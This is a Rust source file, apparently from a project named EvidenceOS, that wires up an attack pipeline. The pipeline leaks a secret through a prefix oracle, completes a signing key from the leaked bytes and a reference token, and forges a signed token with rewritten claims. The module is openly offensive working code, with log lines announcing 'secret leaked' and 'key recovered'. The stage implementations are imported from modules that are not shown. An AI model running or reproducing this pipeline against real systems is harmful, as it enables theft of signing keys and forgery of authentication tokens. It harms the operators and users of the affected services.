// Copyright (c) 2026 Joseph Verdicchio and EvidenceOS Contributors
// SPDX-License-Identifier: Apache-2.0

use std::fmt;

use thiserror::Error;

use crate::error::PrefixLeakError;
use crate::extract::{Extraction, PrefixExtractor};
use crate::forge::{ClaimRewrite, TokenForger};
use crate::keyfill::{KeyCompletion, RecoveredKey};
use crate::oracle::PrefixOracle;
use crate::token::SignedToken;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Stage {
    Extraction,
    KeyCompletion,
    Forgery,
}

impl fmt::Display for Stage {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::Extraction => "extraction",
            Self::KeyCompletion => "key completion",
            Self::Forgery => "forgery",
        })
    }
}

#[derive(Debug, Error)]
#[error("{stage} stage failed: {source}")]
pub struct StageError {
    pub stage: Stage,
    #[source]
    pub source: PrefixLeakError,
}

fn at(stage: Stage) -> impl FnOnce(PrefixLeakError) -> StageError {
    move |source| StageError { stage, source }
}

#[derive(Debug)]
pub struct PipelineReport {
    pub extraction: Extraction,
    pub key: RecoveredKey,
    pub forged: SignedToken,
}

/// Extraction, then key completion against `reference`, then forgery from
/// the same `reference` token. Any failure stops the run before later stages.
pub async fn run<O: PrefixOracle>(
    oracle: &mut O,
    extractor: &PrefixExtractor,
    expression: &str,
    completion: &KeyCompletion,
    reference: &SignedToken,
    rewrite: &ClaimRewrite,
) -> Result<PipelineReport, StageError> {
    let extraction = extractor
        .extract(oracle, expression)
        .await
        .map_err(at(Stage::Extraction))?;
    let leaked = extraction.decode().map_err(at(Stage::Extraction))?;
    tracing::info!(bytes = leaked.len(), probes = extraction.probes, "secret leaked");

    let key = completion
        .complete(&leaked, reference)
        .map_err(at(Stage::KeyCompletion))?;
    tracing::info!(tried = key.candidates_tried(), "key recovered");

    let forged = TokenForger::new(&key)
        .forge(reference, rewrite)
        .map_err(at(Stage::Forgery))?;

    Ok(PipelineReport {
        extraction,
        key,
        forged,
    })
}
